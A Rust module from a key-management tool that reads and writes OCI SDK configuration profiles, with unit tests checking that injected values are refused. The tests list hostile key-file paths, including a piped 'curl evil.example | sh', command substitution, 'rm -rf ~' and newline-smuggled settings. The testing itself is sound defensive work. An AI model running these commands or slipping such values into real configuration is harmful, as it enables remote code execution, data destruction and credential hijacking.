//! The OCI SDK/CLI configuration file (`~/.oci/config`): read a profile into account settings
//! and the path of its key file, and render the stanza for a new key.
//!
//! The format is Python `configparser` INI, as the SDKs read it: `[PROFILE]` sections,
//! `key=value` (or `key: value`) lines, `#`/`;` comment lines, case-insensitive keys, and the
//! `DEFAULT` section's values inherited by every other profile.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::OciExtra;
use crate::error::{Error, Result};
use crate::model::{AccountSettings, Credential, KeyRecord, VendorExtra};
use crate::secret::Sensitive;
use crate::vendors::ProfileFile;

pub const DEFAULT_PROFILE: &str = "DEFAULT";

/// Characters a `key_file` path may not hold: the config is read by shells and scripts too
/// (`key_file=$(…)`, `;`), and a line break would start a new setting.
const SHELL_META: &str = "$`;|&<>()\"'*?![]{}\n\r";

/// One profile of the file.
#[derive(Debug, Clone)]
pub struct ConfigProfile {
    pub name: String,
    /// `tenancy`, `user`, `fingerprint` and `region`.
    pub settings: AccountSettings,
    /// `key_file`, with `~` expanded.
    pub key_file: PathBuf,
    /// `pass_phrase` (or the Go SDK's `passphrase`), when the key is encrypted.
    pub pass_phrase: Option<Sensitive<String>>,
}

impl ConfigProfile {
    /// Read the key file into the account's credential.
    pub fn credential(&self) -> Result<Credential> {
        let pem = std::fs::read_to_string(&self.key_file).map_err(|e| {
            Error::io(
                &format!(
                    "could not read the OCI key file {}",
                    self.key_file.display()
                ),
                e,
            )
        })?;
        Ok(Credential {
            secret: Sensitive::new(pem),
            passphrase: self.pass_phrase.clone(),
        })
    }
}

/// How the shells add a new key to the OCI config file.
pub static PROFILE_FILE: ProfileFile = ProfileFile {
    label: "the OCI config file",
    path: default_config_path,
    stanza: |account, key, name, key_file| {
        ConfigStanza::for_key(&account.settings, key, name, key_file)?.render()
    },
    append: append_profile,
};

/// The OCI config file Keyrack adds profiles to: `$OCI_CONFIG_FILE` when it is set (as the
/// OCI CLI reads it), else `~/.oci/config`. Never a path the UI chose.
pub fn default_config_path() -> Option<PathBuf> {
    if let Some(path) = std::env::var_os("OCI_CONFIG_FILE").filter(|p| !p.is_empty()) {
        return Some(PathBuf::from(path));
    }
    dirs::home_dir().map(|h| h.join(".oci").join("config"))
}

/// Read profile `profile` of the config file at `path`.
pub fn read_profile(path: &Path, profile: &str) -> Result<ConfigProfile> {
    let text = std::fs::read_to_string(path).map_err(|e| {
        Error::io(
            &format!("could not read the OCI config file {}", path.display()),
            e,
        )
    })?;
    parse_profile(&text, profile, dirs::home_dir().as_deref())
        .map_err(|e| Error::config(format!("{}: {e}", path.display())))
}

/// The profile names in a config file, `DEFAULT` first when present.
pub fn profile_names(text: &str) -> Vec<String> {
    let sections = parse_sections(text);
    let mut names: Vec<String> = sections.keys().cloned().collect();
    names.sort_by_key(|n| (n != DEFAULT_PROFILE, n.clone()));
    names
}

/// Parse `profile` from the file's text; `home` expands a leading `~` in `key_file`.
pub fn parse_profile(text: &str, profile: &str, home: Option<&Path>) -> Result<ConfigProfile> {
    let sections = parse_sections(text);
    let own = sections.get(profile).ok_or_else(|| {
        let known = profile_names(text);
        Error::config(if known.is_empty() {
            format!("there is no profile [{profile}]: the file has no profiles")
        } else {
            format!(
                "there is no profile [{profile}]; the file has {}",
                known.join(", ")
            )
        })
    })?;
    let defaults = sections.get(DEFAULT_PROFILE);
    let get = |key: &str| -> Option<String> {
        own.get(key)
            .or_else(|| defaults.and_then(|d| d.get(key)))
            .map(|v| v.trim().to_string())
            .filter(|v| !v.is_empty())
    };
    let required = |key: &str| -> Result<String> {
        get(key).ok_or_else(|| Error::config(format!("profile [{profile}] has no `{key}`")))
    };
    let key_file = required("key_file")?;
    Ok(ConfigProfile {
        name: profile.to_string(),
        settings: AccountSettings {
            tenancy: Some(required("tenancy")?),
            user: Some(required("user")?),
            fingerprint: Some(required("fingerprint")?.to_ascii_lowercase()),
            region: Some(required("region")?),
            ..AccountSettings::default()
        },
        key_file: expand_tilde(&key_file, home),
        pass_phrase: get("pass_phrase")
            .or_else(|| get("passphrase"))
            .map(Sensitive::new),
    })
}

type Sections = BTreeMap<String, BTreeMap<String, String>>;

fn parse_sections(text: &str) -> Sections {
    let mut sections = Sections::new();
    let mut current: Option<String> = None;
    for raw in text.lines() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            let name = name.trim().to_string();
            sections.entry(name.clone()).or_default();
            current = Some(name);
            continue;
        }
        let Some(section) = &current else { continue };
        // configparser splits at the first `=` or `:`, whichever comes first.
        let Some(at) = line.find(['=', ':']) else {
            continue;
        };
        let key = line[..at].trim().to_ascii_lowercase();
        let value = line[at + 1..].trim().to_string();
        if let Some(values) = sections.get_mut(section) {
            values.insert(key, value);
        }
    }
    sections
}

fn expand_tilde(path: &str, home: Option<&Path>) -> PathBuf {
    match (path.strip_prefix('~'), home) {
        (Some(""), Some(home)) => home.to_path_buf(),
        (Some(rest), Some(home)) if rest.starts_with('/') || rest.starts_with('\\') => {
            home.join(&rest[1..])
        }
        _ => PathBuf::from(path),
    }
}

/// The values of a config stanza for one key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigStanza {
    pub profile: String,
    pub user: String,
    pub fingerprint: String,
    pub tenancy: String,
    pub region: String,
    /// As it should appear in the file (`~/.oci/oci_api_key.pem` is fine: the SDKs expand it).
    pub key_file: String,
}

impl ConfigStanza {
    /// The stanza for a key listed or created through an OCI account.
    pub fn for_key(
        settings: &AccountSettings,
        record: &KeyRecord,
        profile: &str,
        key_file: &str,
    ) -> Result<Self> {
        let user = match &record.extra {
            VendorExtra::Oci(OciExtra { user_id, .. }) => user_id.clone(),
            _ => return Err(Error::config("not an OCI key")),
        };
        let fingerprint = record
            .id
            .rsplit('/')
            .next()
            .unwrap_or(&record.id)
            .to_string();
        let need = |value: &Option<String>, what: &str| {
            value
                .clone()
                .ok_or_else(|| Error::config(format!("the OCI account has no {what}")))
        };
        Ok(ConfigStanza {
            profile: profile.to_string(),
            user,
            fingerprint,
            tenancy: need(&settings.tenancy, "tenancy OCID")?,
            region: need(&settings.region, "region")?,
            key_file: key_file.to_string(),
        })
    }

    /// The `[PROFILE]` stanza, ending with a newline. Refuses values that would break the file.
    pub fn render(&self) -> Result<String> {
        let profile = self.profile.trim();
        if profile.is_empty() || profile.contains(['[', ']', '\n', '\r']) {
            return Err(Error::validation(
                "profile",
                "a profile name must be one non-empty line without [ or ]",
            ));
        }
        let fields = [
            ("user", &self.user),
            ("fingerprint", &self.fingerprint),
            ("tenancy", &self.tenancy),
            ("region", &self.region),
            ("key_file", &self.key_file),
        ];
        if self.key_file.chars().any(|c| SHELL_META.contains(c)) {
            return Err(Error::validation(
                "key_file",
                format!(
                    "the key file's path `{}` holds a character that tools reading the config \
                     may take for shell syntax ({SHELL_META}); save the key under a plain path",
                    self.key_file.escape_default()
                ),
            ));
        }
        let mut out = format!("[{profile}]\n");
        for (key, value) in fields {
            if value.trim().is_empty() || value.contains(['\n', '\r']) {
                return Err(Error::validation(
                    key,
                    format!("the {key} must be one non-empty line"),
                ));
            }
            out.push_str(&format!("{key}={}\n", value.trim()));
        }
        Ok(out)
    }
}

/// Append a profile stanza to an OCI config file without touching the other profiles. Refuses
/// when the profile already exists. Private (0600) and atomic like every secret-adjacent file;
/// written through a symlink, and safe against another writer (see `fsutil::update_text`).
pub fn append_profile(config_path: &Path, stanza: &str) -> Result<()> {
    let header = stanza.lines().next().unwrap_or("").trim().to_string();
    crate::fsutil::update_text(config_path, |existing| {
        if existing.lines().any(|l| l.trim() == header) {
            return Err(Error::Conflict {
                message: format!(
                    "{} already has a profile {header}; choose another profile name",
                    config_path.display()
                ),
                detail: None,
            });
        }
        let mut text = existing.to_string();
        if !text.is_empty() {
            if !text.ends_with('\n') {
                text.push('\n');
            }
            text.push('\n');
        }
        text.push_str(stanza);
        Ok(text)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fixture() -> String {
        std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/oci/config"
        ))
        .unwrap()
    }

    #[test]
    fn default_profile_is_read_with_tilde_expanded() {
        let p = parse_profile(&fixture(), "DEFAULT", Some(Path::new("/home/ann"))).unwrap();
        assert_eq!(
            p.settings.user.as_deref(),
            Some("ocid1.user.oc1..aaaaaaaafakeuser00000000000000000000000000000000000000000")
        );
        assert_eq!(
            p.settings.tenancy.as_deref(),
            Some("ocid1.tenancy.oc1..aaaaaaaafaketenancy0000000000000000000000000000000000000")
        );
        assert_eq!(
            p.settings.fingerprint.as_deref(),
            Some("9f:86:d0:81:88:4c:7d:65:9a:2f:ea:a0:c5:5a:d0:15")
        );
        assert_eq!(p.settings.region.as_deref(), Some("us-ashburn-1"));
        assert_eq!(p.key_file, PathBuf::from("/home/ann/.oci/oci_api_key.pem"));
        assert!(p.pass_phrase.is_none());
    }

    #[test]
    fn named_profile_inherits_from_default_and_keeps_its_passphrase() {
        let p = parse_profile(&fixture(), "WORK", Some(Path::new("/home/ann"))).unwrap();
        assert_eq!(p.settings.region.as_deref(), Some("eu-frankfurt-1"));
        assert_eq!(
            p.settings.tenancy.as_deref(),
            Some("ocid1.tenancy.oc1..aaaaaaaafaketenancy0000000000000000000000000000000000000")
        );
        assert_eq!(p.key_file, PathBuf::from("/etc/keys/work.pem"));
        assert_eq!(p.pass_phrase.unwrap().expose(), "keyrack-test");
        assert_eq!(
            format!(
                "{:?}",
                parse_profile(&fixture(), "WORK", None).unwrap().pass_phrase
            ),
            "Some(<redacted>)"
        );
    }

    #[test]
    fn missing_profile_or_key_names_what_is_wrong() {
        let err = parse_profile(&fixture(), "PROD", None).unwrap_err();
        assert!(err.to_string().contains("DEFAULT, WORK"), "{err}");
        let err = parse_profile("[X]\nuser=u\n", "X", None).unwrap_err();
        assert!(err.to_string().contains("`key_file`"), "{err}");
        assert_eq!(profile_names(&fixture()), vec!["DEFAULT", "WORK"]);
    }

    #[test]
    fn keys_are_case_insensitive_and_colon_separated_values_work() {
        let text = "[P]\nUSER: u\nFingerprint = AA:bb\ntenancy=t\nregion=r\nkey_file = k.pem\n";
        let p = parse_profile(text, "P", None).unwrap();
        assert_eq!(p.settings.user.as_deref(), Some("u"));
        assert_eq!(p.settings.fingerprint.as_deref(), Some("aa:bb"));
        assert_eq!(p.key_file, PathBuf::from("k.pem"));
    }

    #[test]
    fn read_profile_reads_a_file_and_its_key() {
        let dir = tempfile::tempdir().unwrap();
        let key = dir.path().join("key.pem");
        std::fs::write(&key, "PEM").unwrap();
        let config = dir.path().join("config");
        std::fs::write(
            &config,
            format!(
                "[DEFAULT]\nuser=u\nfingerprint=f\ntenancy=t\nregion=r\nkey_file={}\n",
                key.display()
            ),
        )
        .unwrap();
        let p = read_profile(&config, "DEFAULT").unwrap();
        assert_eq!(p.credential().unwrap().secret.expose(), "PEM");
        let missing = read_profile(&dir.path().join("nope"), "DEFAULT").unwrap_err();
        assert_eq!(missing.code(), crate::Code::Io);
    }

    #[test]
    fn stanza_for_a_listed_key_takes_the_user_from_the_key() {
        let fingerprint = "73:61:a2:21:67:e0:df:be:7e:4b:93:1e:15:98:a5:b7";
        let record = crate::test_support::key_record(
            &format!("ocid1.user.oc1..other/{fingerprint}"),
            VendorExtra::Oci(OciExtra {
                user_id: "ocid1.user.oc1..other".into(),
                lifecycle_state: "ACTIVE".into(),
                inactive_status: None,
            }),
        );
        let settings = AccountSettings {
            tenancy: Some("ocid1.tenancy.oc1..t".into()),
            region: Some("us-ashburn-1".into()),
            ..AccountSettings::default()
        };
        let stanza =
            ConfigStanza::for_key(&settings, &record, "OTHER", "~/.oci/other.pem").unwrap();
        assert_eq!(stanza.user, "ocid1.user.oc1..other");
        assert_eq!(stanza.fingerprint, fingerprint);
        assert_eq!(stanza.tenancy, "ocid1.tenancy.oc1..t");
        assert!(stanza
            .render()
            .unwrap()
            .starts_with("[OTHER]\nuser=ocid1.user.oc1..other\n"));
        let no_region = AccountSettings {
            region: None,
            ..settings
        };
        assert!(ConfigStanza::for_key(&no_region, &record, "P", "k").is_err());
    }

    #[test]
    fn stanza_renders_the_sdk_format_and_round_trips() {
        let stanza = ConfigStanza {
            profile: "KEYRACK".into(),
            user: "ocid1.user.oc1..u".into(),
            fingerprint: "73:61:a2:21:67:e0:df:be:7e:4b:93:1e:15:98:a5:b7".into(),
            tenancy: "ocid1.tenancy.oc1..t".into(),
            region: "eu-frankfurt-1".into(),
            key_file: "~/.oci/keyrack.pem".into(),
        };
        let text = stanza.render().unwrap();
        assert_eq!(
            text,
            "[KEYRACK]\nuser=ocid1.user.oc1..u\nfingerprint=73:61:a2:21:67:e0:df:be:7e:4b:93:1e:15:98:a5:b7\n\
             tenancy=ocid1.tenancy.oc1..t\nregion=eu-frankfurt-1\nkey_file=~/.oci/keyrack.pem\n"
        );
        let back = parse_profile(&text, "KEYRACK", Some(Path::new("/h"))).unwrap();
        assert_eq!(
            back.settings.fingerprint.as_deref(),
            Some(stanza.fingerprint.as_str())
        );
        assert_eq!(back.key_file, PathBuf::from("/h/.oci/keyrack.pem"));

        let bad = ConfigStanza {
            region: "x\n[EVIL]".into(),
            ..stanza.clone()
        };
        assert!(bad.render().is_err());
        let bad = ConfigStanza {
            profile: "A]B".into(),
            ..stanza.clone()
        };
        assert!(bad.render().is_err());
        for hostile in [
            "/home/ann/.oci/k.pem; curl evil.example | sh",
            "$(touch /tmp/pwned).pem",
            "`id`.pem",
            "/home/ann/k.pem\nuser=ocid1.user.oc1..attacker",
            "/home/ann/k.pem\r",
            "k.pem && rm -rf ~",
        ] {
            let bad = ConfigStanza {
                key_file: hostile.into(),
                ..stanza.clone()
            };
            let e = bad.render().unwrap_err();
            assert_eq!(
                e.to_public().field.as_deref(),
                Some("key_file"),
                "{hostile}"
            );
        }
        let spaced = ConfigStanza {
            key_file: "/Users/Ann Lee/.oci/key file.pem".into(),
            ..stanza.clone()
        };
        assert!(spaced.render().is_ok(), "spaces are fine in a path");
    }
}
